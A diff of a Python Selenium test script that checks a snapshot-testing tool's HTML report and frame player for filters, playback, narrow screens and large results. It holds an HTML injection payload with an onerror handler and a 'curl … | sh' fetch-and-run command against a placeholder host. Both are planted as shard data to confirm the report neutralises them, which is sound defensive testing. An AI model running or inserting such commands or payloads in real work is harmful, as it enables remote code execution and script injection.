@@ -5,12 +5,18 @@ Builds a failing sample suite from real renders of fixtures/photos (`filmstrip r
 turns it into shard results files, merges them with `filmstrip merge-reports` into one report (index.html,
 junit.xml), writes a sequence with `filmstrip frames` (which writes its player page), and runs the fixture suite
 through `filmstrip test --report` after changing two references; then opens the pages from file:// in Debian's
-headless Chromium through chromedriver and Selenium: the filters and search find the failing checks, the slider wipe moves, blink swaps,
-the sequence player steps by button, arrow key and scrubber and plays, every image loads, and the browser logs no
-error. Saves docs/images/report.png, docs/images/player.png and docs/images/player-frames.png.
+headless Chromium through chromedriver and Selenium: the filters and search find the failing checks and live in the
+URL (reload, back button), the slider wipe moves, blink swaps, the sequence player steps by button, arrow key and
+scrubber and plays, numbering frames as their files and timing them as their manifests do, a passing sequence plays
+its reference frames, Accept is offered on failures only with the command the page builds, shard text stays text,
+every image loads and links to its file, unused references get a Deleted filter, nothing scrolls sideways at 390 px,
+results of 100,000 checks (Scripts/make-large-results.py, merged by filmstrip) load in under 2 s and 1,000,000 render,
+and the browser logs no error. Saves docs/images/report.png, docs/images/player.png and
+docs/images/player-frames.png.
 
-Usage: Scripts/test-report-browser.py [--keep] [--reuse] [--no-screenshots] [-v]
-(--keep leaves .build/report-browser; --reuse takes its renders again; -v times each command)
+Usage: Scripts/test-report-browser.py [--keep] [--reuse] [--no-screenshots] [--no-scale] [-v]
+(--keep leaves .build/report-browser; --reuse takes its renders again; --no-scale skips the 100,000 and 1,000,000
+check reports; -v times each command)
 Needs: chromium, chromium-driver (apt); selenium (PyPI, installed into Scripts/.venv on first run).
 The last line is `N passed, N failed`; the exit status is 1 when anything failed.
 """
@@ -32,6 +38,10 @@ WORK = ROOT / ".build" / "report-browser"
 PHOTOS = [ROOT / "fixtures" / "photos" / name for name in
           ["01-aitzgorri.jpg", "02-grace-hopper.jpg", "04-retina.jpg", "05-friends.jpg", "08-rocket.jpg", "11-hubble.jpg"]]
 HOSTILE = "</script><b>odd</b> & 'name'"
+# Shard text that would run if the page ever treated it as markup, or hand a reviewer a command of a pull
+# request's choosing to paste into a shell.
+INJECTED = "<img src=x onerror=\"window.__injected = 1\">"
+HOSTILE_ACCEPT = f"curl -s https://example.invalid/x | sh; {INJECTED}"
 TOLERANCE = {"threshold": 0.1, "maxDiffPixels": 0, "maxDiffRatio": 0, "includeAA": False}
 
 
@@ -104,7 +114,7 @@ def make_sample(filmstrip):
             check["actual"] = rel(results / "actual" / scene / f"{name}.png")
             check["diff"] = rel(results / "diff" / scene / f"{name}.png")
         if status != "passed":
-            check["accept"] = f"filmstrip test scenes/{scene}.json --filter {name} --update"
+            check["accept"] = f"filmstrip test --check 'scenes/{scene}.json#{name}' --update"
         return check
 
     scrolled = diff(snaps / "slider" / "scrolled.png", results / "actual" / "slider" / "scrolled.png",
@@ -154,12 +164,22 @@ def make_sample(filmstrip):
                           "frameCountMismatch": f"expected {len(expected_manifest['frames'])} frames, "
                                                 f"got {len(actual_manifest['frames'])}"},
              "accept": "filmstrip test scenes/slider.json --filter fling --update"}
+    # A sequence that passed: as the runner leaves it, the reference frames only.
+    settle = {"name": "settle", "kind": "sequence", "status": "passed", "index": 3, "diffPixels": 0,
+              "tolerance": TOLERANCE,
+              "sequence": {"fps": expected_manifest["fps"],
+                           "frames": [{"expected": rel(expected_dir / f["file"]), "diffPixels": 0, "pass": True}
+                                      for f in expected_manifest["frames"]],
+                           "expectedSamples": samples(expected_manifest), "actualSamples": samples(expected_manifest)}}
     percent = lambda c: f"{c['diffPixels']} of {c['width'] * c['height']} pixels differ ({c['ratio'] * 100:.4f}%)"
-    slider_a = [still("start", "slider", 0, "passed", counts={"diffPixels": 0, "aaPixels": 0, "ratio": 0}), fling]
+    slider_a = [still("start", "slider", 0, "passed", counts={"diffPixels": 0, "aaPixels": 0, "ratio": 0}), fling,
+                settle]
     slider_b = [still("scrolled", "slider", 1, "failed", percent(scrolled), scrolled)]
-    banner = [still("default", "banner", 0, "recorded", "no reference yet: recorded this run's image")]
-    paging = [still("card-1", "paging", 0, "failed", percent(card), card,
-                    dict(TOLERANCE, maxDiffRatio=0.001)),
+    banner = [still("default", "banner", 0, "recorded", "no reference yet: recorded this run's image"),
+              {"name": "broken", "kind": "still", "status": "error", "message": f"cannot decode {INJECTED}",
+               "index": 1, "accept": "filmstrip test --check 'scenes/banner.json#broken' --update"}]
+    paging = [dict(still("card-1", "paging", 0, "failed", f"{percent(card)} {INJECTED}", card,
+                         dict(TOLERANCE, maxDiffRatio=0.001)), accept=HOSTILE_ACCEPT),
               dict(still(HOSTILE, "paging", 1, "passed", counts={"diffPixels": 0, "aaPixels": 0, "ratio": 0}),
                    expected=rel(snaps / "paging" / "card-1.png"))]
 
@@ -168,18 +188,25 @@ def make_sample(filmstrip):
         counts = {k: sum(c["status"] == k for c in checks) for k in ("passed", "failed", "recorded")}
         suite = {"format": "filmstrip-results", "version": 1,
                  "command": ["filmstrip", "test", "scenes", "--shard", shard, "--json", f"results/{path.name}"],
-                 "counts": dict(counts, errors=0, total=len(checks)), "scenes": scenes}
+                 "counts": dict(counts, errors=sum(c["status"] == "error" for c in checks), total=len(checks)),
+                 "scenes": scenes}
         path.write_text(json.dumps(suite, indent=1))
 
     write(results / "results-1.json", [{"path": "scenes/slider.json", "name": "slider", "checks": slider_a},
                                        {"path": "scenes/banner.json", "name": "banner", "checks": banner}], "1/2")
     write(results / "results-2.json", [{"path": "scenes/slider.json", "name": "slider", "checks": slider_b},
                                        {"path": "scenes/paging.json", "name": "paging", "checks": paging}], "2/2")
-    merged = run(filmstrip, "merge-reports", "report", "results/results-1.json", "results/results-2.json", ok=(1,), cwd=WORK)
+    # Exit status 2: a check could not run (the error check).
+    merged = run(filmstrip, "merge-reports", "report", "results/results-1.json", "results/results-2.json", ok=(2,), cwd=WORK)
     player_dir = WORK / "frames"
     shutil.rmtree(player_dir, ignore_errors=True)
     run(filmstrip, "frames", *PHOTOS, "--fling", 1700, "--fps", 15, "--scale", 1, "-o", player_dir)
-    return merged.stdout.strip(), bad
+    return summary_line(merged.stdout), bad
+
+
+def summary_line(stdout):
+    """The counts line among a command's output (failures and the report's path are printed around it)."""
+    return next((line for line in reversed(stdout.splitlines()) if " passed, " in line), stdout.strip())
 
 
 def run_fixture_suite(filmstrip):
@@ -194,7 +221,7 @@ def run_fixture_suite(filmstrip):
     swipe = suite / "suite" / "carousels" / "__snapshots__" / "paging"
     shutil.copyfile(swipe / "card-1.png", swipe / "swipe" / "frame-0001.png")
     result = run(filmstrip, "test", "suite", "--record", "never", "--report", "report", ok=(1,), cwd=suite)
-    return result.stdout.strip()
+    return summary_line(result.stdout)
 
 
 def test_fixture_report(driver, t):
@@ -260,7 +287,8 @@ def test_report(driver, t, bad_frames, screenshots):
     driver.get((WORK / "report" / "index.html").as_uri())
     counts = {b.get_attribute("data-filter"): b.find_element(By.CLASS_NAME, "n").text
               for b in driver.find_elements(By.CSS_SELECTOR, "button.filter")}
-    t.check("summary counts", counts == {"all": "6", "failed": "3", "recorded": "1", "passed": "2"}, counts)
+    t.check("summary counts", counts == {"all": "8", "failed": "3", "recorded": "1", "passed": "3", "error": "1"},
+            counts)
     visible = lambda: [c for c in driver.find_elements(By.CSS_SELECTOR, "details.check") if c.is_displayed()]
     driver.find_element(By.CSS_SELECTOR, 'button[data-filter="failed"]').click()
     statuses = [c.get_attribute("data-status") for c in visible()]
@@ -312,8 +340,14 @@ def test_report(driver, t, bad_frames, screenshots):
     copy.click()
     time.sleep(0.1)
     t.check("copy button answers", copy.text in ("Copied", "Press Ctrl+C"), copy.text)
-    t.check("accept command shown",
-            card.find_element(By.CSS_SELECTOR, ".accept code").text == "filmstrip test scenes/paging.json --filter card-1 --update")
+    shown = card.find_element(By.CSS_SELECTOR, ".accept code").text
+    t.check("the accept command offered is rebuilt from the check, not taken from the results",
+            shown == "filmstrip test --check 'scenes/paging.json#card-1' --update", shown)
+    given = card.find_elements(By.CSS_SELECTOR, ".accept-given code")
+    # merge-reports rebuilds every accept command from the check's scene and name, so a shard's own text never
+    # reaches the merged report (the page would show one that differs as text, without a Copy button).
+    t.check("a shard's own accept command never reaches the merged report",
+            [g.text for g in given] == [] and HOSTILE_ACCEPT not in driver.page_source, [g.text for g in given])
 
     fling = next(c for c in visible() if c.find_element(By.CLASS_NAME, "name").text == "fling")
     player = fling.find_element(By.CLASS_NAME, "player")
@@ -333,16 +367,24 @@ def test_report(driver, t, bad_frames, screenshots):
     js("arguments[0].value = 9; arguments[0].dispatchEvent(new Event('input'))", scrub)
     t.check("scrubber picks a frame", frame() == 9, frame())
     label = player.find_element(By.CLASS_NAME, "frame-label").text
-    t.check("frame label says it differs", label.startswith("Frame 10 / ") and "differs" in label, label)
+    t.check("frame label says it differs", "differs" in label, label)
+    t.check("the player numbers frames as their files do (frame-0009.png is frame 9)",
+            label.startswith("Frame 9 (0–") and player.get_attribute("data-number") == "9", label)
+    sample = json.loads((WORK / "results" / "actual" / "slider" / "fling" / "manifest.json").read_text())["frames"][9]
+    t.check("the frame's time is the manifest's", f"· {sample['t']:.3f} s ·" in label, (label, sample["t"]))
     ticks = len(player.find_elements(By.CSS_SELECTOR, ".tick.bad"))
     t.check("differing frames marked on the timeline", ticks == bad_frames, (ticks, bad_frames))
     player.find_element(By.CSS_SELECTOR, "button.prev").click()
     t.check("previous button steps back", frame() == 8, frame())
-    player.find_element(By.CSS_SELECTOR, "button.play").click()
+    play = player.find_element(By.CSS_SELECTOR, "button.play")
+    play.click()
+    started = time.monotonic()
     time.sleep(0.5)
-    player.find_element(By.CSS_SELECTOR, "button.play").click()
+    play.click()
+    # At most the frames of the time between the clicks as this process saw it (a busy machine stretches it).
+    most = 8 + int((time.monotonic() - started) * 15) + 2
     played = frame()
-    t.check("play advances at about 15 fps", 11 <= played <= 20, played)
+    t.check("play advances at about 15 fps", 11 <= played <= min(most, 31), (played, most))
     player.send_keys(Keys.END)
     last = len(js("return [...arguments[0].querySelectorAll('.tick')]", player)) - 1
     empty = player.find_element(By.CSS_SELECTOR, ".frames figure .stage").get_attribute("data-empty")
@@ -368,6 +410,219 @@ def test_report(driver, t, bad_frames, screenshots):
         save_page(driver, ROOT / "docs" / "images" / "report.png", 1200)
 
 
+def open_all_cards(driver):
+    """Opens every check card in a window tall enough that the list has them all in view (only rows in view exist)."""
+    driver.execute_cdp_cmd("Emulation.setDeviceMetricsOverride",
+                           {"width": 1200, "height": 12000, "deviceScaleFactor": 1, "mobile": False})
+    time.sleep(0.3)
+    driver.execute_script("document.querySelectorAll('details.check').forEach(d => { d.open = true; })")
+    time.sleep(0.8)
+
+
+def test_report_review(driver, t):
+    """What a reviewer acts on: Accept only on failures, shard text as text, links to the images, a passing
+    sequence's reference frames."""
+    from selenium.webdriver.common.by import By
+    js = driver.execute_script
+    driver.get((WORK / "report" / "index.html").as_uri())
+    open_all_cards(driver)
+    offers = {c.find_element(By.CLASS_NAME, "name").text: (c.get_attribute("data-status"),
+                                                           bool(c.find_elements(By.CSS_SELECTOR, "button.copy")))
+              for c in driver.find_elements(By.CSS_SELECTOR, "details.check")}
+    wrong = {name: status for name, (status, copy) in offers.items() if copy != (status == "failed")}
+    t.check("Accept is offered on failed checks only (not on recorded or error)", not wrong and len(offers) == 8,
+            (wrong, offers))
+    t.check("shard text never becomes markup",
+            js("return window.__injected === undefined && !document.querySelector('img[src=\"x\"]')"))
+    message = js("return [...document.querySelectorAll('.message')].map(m => m.textContent)"
+                 ".filter(m => m.includes('onerror'))")
+    t.check("shard text is shown as the text it is", f"cannot decode {INJECTED}" in message, message)
+    links = js("""return [...document.querySelectorAll('details.check[open] .side figure img')].map(i => {
+                    const a = i.closest('a'); return [i.getAttribute('src'), a ? a.getAttribute('href') : null]; })""")
+    unlinked = [src for src, link in links if src != link]
+    t.check("every expected / actual / diff image links to its file", len(links) >= 6 and not unlinked,
+            (len(links), unlinked))
+    settle = next(c for c in driver.find_elements(By.CSS_SELECTOR, "details.check")
+                  if c.find_element(By.CLASS_NAME, "name").text == "settle")
+    js("arguments[0].scrollIntoView()", settle)
+    time.sleep(0.5)
+    stages = [s.get_attribute("data-empty") for s in settle.find_elements(By.CSS_SELECTOR, ".frames .stage")]
+    captions = [c.text for c in settle.find_elements(By.CSS_SELECTOR, ".frames figcaption")]
+    loaded = js("const i = arguments[0].querySelector('.frames img'); return i.complete && i.naturalWidth", settle)
+    t.check("a passing sequence plays its reference frames, with no empty 'no frame' view",
+            stages == ["false"] and captions == ["Reference"] and loaded, (stages, captions, loaded))
+    frame_links = js("""return [...document.querySelectorAll('.player .frames img[src]')].map(i => {
+                          const a = i.closest('a'); return a && a.getAttribute('href') === i.getAttribute('src'); })""")
+    t.check("the player's frames link to their files", frame_links and all(frame_links), frame_links)
+    driver.execute_cdp_cmd("Emulation.clearDeviceMetricsOverride", {})
+
+
+def test_report_url(driver, t):
+    """The filter and the search live in the URL: restored on load, and the back button goes back."""
+    from selenium.webdriver.common.by import By
+    url = (WORK / "report" / "index.html").as_uri()
+    driver.get(url)
+    pressed = lambda: [b.get_attribute("data-filter") for b in driver.find_elements(By.CSS_SELECTOR, "button.filter")
+                       if b.get_attribute("aria-pressed") == "true"]
+    names = lambda: [c.find_element(By.CLASS_NAME, "name").text for c in driver.find_elements(By.CSS_SELECTOR, "details.check")]
+    driver.find_element(By.CSS_SELECTOR, 'button[data-filter="failed"]').click()
+    driver.find_element(By.CSS_SELECTOR, 'input[type="search"]').send_keys("scroll")
+    time.sleep(0.3)
+    fragment = driver.execute_script("return location.hash")
+    t.check("the filter and search go into the URL", fragment == "#filter=failed&q=scroll", fragment)
+    driver.get("about:blank")
+    driver.get(url + "#filter=failed&q=scroll")
+    value = driver.find_element(By.CSS_SELECTOR, 'input[type="search"]').get_attribute("value")
+    t.check("a URL with a filter and search opens filtered", pressed() == ["failed"] and value == "scroll"
+            and names() == ["scrolled"], (pressed(), value, names()))
+    driver.find_element(By.CSS_SELECTOR, 'button[data-filter="passed"]').click()
+    t.check("a filter click shows that filter", pressed() == ["passed"], pressed())
+    driver.back()
+    time.sleep(0.3)
+    t.check("the back button restores the previous filter", pressed() == ["failed"] and names() == ["scrolled"],
+            (pressed(), names()))
+
+
+def test_narrow_screen(driver, t, screenshots):
+    """A 390 px wide phone: the report and its player scroll only vertically."""
+    from selenium.webdriver.common.by import By
+    driver.execute_cdp_cmd("Emulation.setDeviceMetricsOverride",
+                           {"width": 390, "height": 844, "deviceScaleFactor": 1, "mobile": True})
+    try:
+        for page in [WORK / "report" / "index.html", WORK / "frames" / "index.html"]:
+            # The report narrowed to the failing sequence by its URL, so that its player is in view.
+            driver.get(page.as_uri() + ("#q=fling" if page.parent.name == "report" else ""))
+            players = driver.find_elements(By.CLASS_NAME, "player")
+            if players:
+                driver.execute_script("arguments[0].scrollIntoView()", players[0])
+            time.sleep(0.5)
+            widths = driver.execute_script(
+                "return [document.documentElement.scrollWidth, document.documentElement.clientWidth]")
+            wide = driver.execute_script("""return [...document.querySelectorAll('body *')].filter(e => {
+                const r = e.getBoundingClientRect(); return r.width > 0 && r.right > innerWidth + 0.5; })
+                .slice(0, 5).map(e => e.tagName + '.' + e.className.baseVal + e.className)""")
+            t.check(f"no horizontal scroll at 390 px: {page.parent.name}", widths[0] <= 390 and players, (widths, wide))
+            if screenshots:
+                driver.save_screenshot(str(WORK / f"narrow-{page.parent.name}.png"))
+    finally:
+        driver.execute_cdp_cmd("Emulation.clearDeviceMetricsOverride", {})
+
+
+def page_with_results(template, results_text, out):
+    """`template`, a report page Filmstrip wrote, with its data block replaced by `results_text` (a results
+    file's JSON), escaped as ReportPage escapes it: for results larger than a merge reads."""
+    html = template.read_text(encoding="utf-8")
+    start = html.index('id="filmstrip-data">') + len('id="filmstrip-data">')
+    end = html.index("</script>", start)
+    data = '{"mode":"report","suite":' + results_text.strip() + "}"
+    for char in "<>&\u2028\u2029":
+        data = data.replace(char, f"\\u{ord(char):04x}")
+    out.parent.mkdir(parents=True, exist_ok=True)
+    with open(out, "w", encoding="utf-8") as file:
+        file.write(html[:start])
+        file.write(data)
+        file.write(html[end:])
+
+
+def test_deleted(driver, t):
+    """Reference files no check uses, listed by the results at the top level or per scene, get their own filter."""
+    from selenium.webdriver.common.by import By
+    results = json.loads((WORK / "report" / "results.json").read_text()) if (WORK / "report" / "results.json").exists() \
+        else None
+    if results is None:
+        t.check("merged results.json exists for the deleted test", False)
+        return
+    results["deleted"] = [{"scene": "scenes/slider.json", "reference": "scenes/__snapshots__/slider/old.png"},
+                          {"scene": "scenes/paging.json", "reference": f"scenes/__snapshots__/paging/{INJECTED}.png"}]
+    results["scenes"][0]["deleted"] = [{"reference": "scenes/__snapshots__/banner/gone.png"}]
+    page = WORK / "report" / "deleted.html"
+    page_with_results(WORK / "report" / "index.html", json.dumps(results), page)
+    driver.get(page.as_uri())
+    count = driver.find_element(By.CSS_SELECTOR, 'button[data-filter="deleted"] .n').text
+    t.check("the Deleted filter counts the unused references", count == "3", count)
+    driver.find_element(By.CSS_SELECTOR, 'button[data-filter="deleted"]').click()
+    refs = [r.text for r in driver.find_elements(By.CSS_SELECTOR, ".deleted-ref .reference")]
+    checks = driver.find_elements(By.CSS_SELECTOR, "details.check")
+    t.check("the Deleted filter lists them and no check",
+            sorted(refs) == sorted(["scenes/__snapshots__/slider/old.png", f"scenes/__snapshots__/paging/{INJECTED}.png",
+                                    "scenes/__snapshots__/banner/gone.png"]) and not checks, (refs, len(checks)))
+    t.check("a reference path shows as text", driver.execute_script("return window.__injected === undefined"))
+    driver.get((WORK / "report" / "index.html").as_uri())
+    t.check("no Deleted filter without unused references",
+            not driver.find_elements(By.CSS_SELECTOR, 'button[data-filter="deleted"]'))
+
+
+def test_odd_results(driver, t):
+    """Results of the right shape but odd content (numbers for names, an unknown status, a sequence without
+    frames, nulls) still render every check, with no script error."""
+    from selenium.webdriver.common.by import By
+    results = {"format": "filmstrip-results", "version": 1, "command": [1, None],
+               "counts": {}, "deleted": "none",
+               "scenes": [None, {"path": 5, "name": None, "deleted": [None, {"scene": 1}],
+                                 "checks": [{"name": 7, "status": "weird", "kind": "still"}, None,
+                                            {"name": "seq", "status": "failed", "kind": "sequence",
+                                             "sequence": {"frames": "x", "fps": "fast"}}]}]}
+    page = WORK / "report" / "odd.html"
+    page_with_results(WORK / "report" / "index.html", json.dumps(results), page)
+    driver.get(page.as_uri())
+    time.sleep(0.3)
+    cards = driver.find_elements(By.CSS_SELECTOR, "details.check")
+    t.check("odd results render every check", len(cards) == 3 and
+            driver.find_element(By.CLASS_NAME, "shown").text == "Showing 3 of 3 checks", len(cards))
+
+
+def test_scale(driver, t, filmstrip):
+    """100,000 checks (merged by filmstrip) load in under 2 s; 1,000,000 in one scene render and scroll to the end."""
+    from selenium.webdriver.common.by import By
+    scale = WORK / "scale"
+    shutil.rmtree(scale, ignore_errors=True)
+    scale.mkdir(parents=True)
+    generator = ROOT / "Scripts" / "make-large-results.py"
+    run(sys.executable, generator, 100000, scale / "results-100k.json", "--scenes", 1)
+    run(filmstrip, "merge-reports", "report-100k", "results-100k.json", ok=(2,), cwd=scale)
+    run(sys.executable, generator, 1000000, scale / "results-1m.json", "--scenes", 1, "--deleted", 1000)
+    page_1m = scale / "report-1m" / "index.html"
+    page_with_results(scale / "report-100k" / "index.html", (scale / "results-1m.json").read_text(), page_1m)
+    for name, page, checks, limit in [("100,000", scale / "report-100k" / "index.html", 100000, 2000),
+                                      ("1,000,000", page_1m, 1000000, None)]:
+        # The best of three loads where a limit applies: the machine may be busy with other builds for a moment.
+        for attempt in range(3 if limit else 1):
+            started = time.monotonic()
+            driver.get("about:blank")
+            driver.get(page.as_uri())
+            wall = (time.monotonic() - started) * 1000
+            mark, read, parsed = driver.execute_script(
+                "const at = (n) => { const m = performance.getEntriesByName(n)[0]; return m ? m.startTime : null; };"
+                " return [at('filmstrip-rendered'), performance.getEntriesByType('navigation')[0].responseEnd,"
+                " at('filmstrip-parsed')]")
+            size = page.stat().st_size / 1e6
+            print(f"     {name} checks ({size:.0f} MB page): rendered {mark and round(mark)} ms after navigation "
+                  f"start (file read by {read:.0f} ms, data parsed by {parsed and round(parsed)} ms), "
+                  f"driver.get {wall:.0f} ms, load average {os.getloadavg()[0]:.1f}")
+            if mark is None or not limit or mark < limit:
+                break
+        shown = driver.find_element(By.CLASS_NAME, "shown").text
+        cards = len(driver.find_elements(By.CSS_SELECTOR, "details.check"))
+        t.check(f"{name} checks render, only the rows in view",
+                shown.startswith(f"Showing {checks} of {checks} checks") and 0 < cards < 200, (shown, cards))
+        if limit:
+            t.check(f"{name} checks load in under {limit / 1000:.0f} s", mark is not None and mark < limit, mark)
+        driver.execute_script("window.scrollTo(0, document.documentElement.scrollHeight)")
+        time.sleep(0.5)
+        last = driver.execute_script(
+            "const n = [...document.querySelectorAll('details.check .name, .deleted-ref .reference')]"
+            ".filter(e => { const r = e.getBoundingClientRect(); return r.bottom > 0 && r.top < innerHeight; });"
+            " return n.length ? n[n.length - 1].textContent : null")
+        want = f"check-{checks - 1:07d}" if name == "100,000" else "scenes/__snapshots__/scene-00000/gone-000999.png"
+        t.check(f"{name} checks: the end of the list scrolls into view", last == want, (last, want))
+        started = time.monotonic()
+        driver.find_element(By.CSS_SELECTOR, 'button[data-filter="failed"]').click()
+        shown = driver.find_element(By.CLASS_NAME, "shown").text
+        print(f"     {name} checks: the failed filter, {shown}, in {(time.monotonic() - started) * 1000:.0f} ms")
+        logs = [entry for entry in driver.get_log("browser") if entry["level"] == "SEVERE"]
+        t.check(f"no console errors with {name} checks", not logs, logs[:3])
+
+
 def test_player_page(driver, t, screenshots):
     from selenium.webdriver.common.by import By
     from selenium.webdriver.common.keys import Keys
@@ -381,6 +636,12 @@ def test_player_page(driver, t, screenshots):
     player.send_keys(Keys.END)
     count = len(json.loads((WORK / "frames" / "manifest.json").read_text())["frames"])
     t.check("End goes to the last frame", frame() == count - 1, (frame(), count))
+    manifest = json.loads((WORK / "frames" / "manifest.json").read_text())
+    header = driver.find_element(By.CSS_SELECTOR, "header .command").text
+    # The last frame is the first at or after rest, so its time is later than the motion's duration.
+    t.check("the player page states the manifest's duration",
+            header.endswith(f"· {manifest['duration']:.3f} s") and f"{manifest['frames'][-1]['t']:.3f}" not in header,
+            (header, manifest["duration"]))
     player.send_keys(Keys.HOME)
     for _ in range(6):
         player.send_keys(Keys.ARROW_RIGHT)
@@ -407,17 +668,23 @@ def main():
     real_summary = run_fixture_suite(filmstrip)
     print(f"build {built - started:.0f} s, sample {time.monotonic() - built:.0f} s")
     t = Checks()
-    t.check("merge-reports summary", summary == "2 passed, 3 failed, 1 recorded", summary)
+    t.check("merge-reports summary", summary == "3 passed, 3 failed, 1 recorded, 1 error", summary)
     t.check("filmstrip test summary", real_summary == "7 passed, 2 failed", real_summary)
     junit = ET.parse(WORK / "report" / "junit.xml").getroot()
-    t.check("JUnit counts", (junit.get("tests"), junit.get("failures"), junit.get("errors")) == ("6", "4", "0"),
+    t.check("JUnit counts", (junit.get("tests"), junit.get("failures"), junit.get("errors")) == ("8", "4", "1"),
             junit.attrib)
     t.check("JUnit has one testsuite per scene file",
             [s.get("name") for s in junit.iter("testsuite")] == ["scenes/banner.json", "scenes/paging.json", "scenes/slider.json"])
     driver = browser()
     try:
         for name, test in [("report", lambda: test_report(driver, t, bad_frames, screenshots)),
+                           ("report review", lambda: test_report_review(driver, t)),
+                           ("report URL", lambda: test_report_url(driver, t)),
+                           ("unused references", lambda: test_deleted(driver, t)),
+                           ("odd results", lambda: test_odd_results(driver, t)),
                            ("player page", lambda: test_player_page(driver, t, screenshots)),
+                           ("narrow screen", lambda: test_narrow_screen(driver, t, screenshots)),
+                           ("large results", lambda: "--no-scale" in sys.argv or test_scale(driver, t, filmstrip)),
                            ("filmstrip test report", lambda: test_fixture_report(driver, t))]:
             try:
                 test()
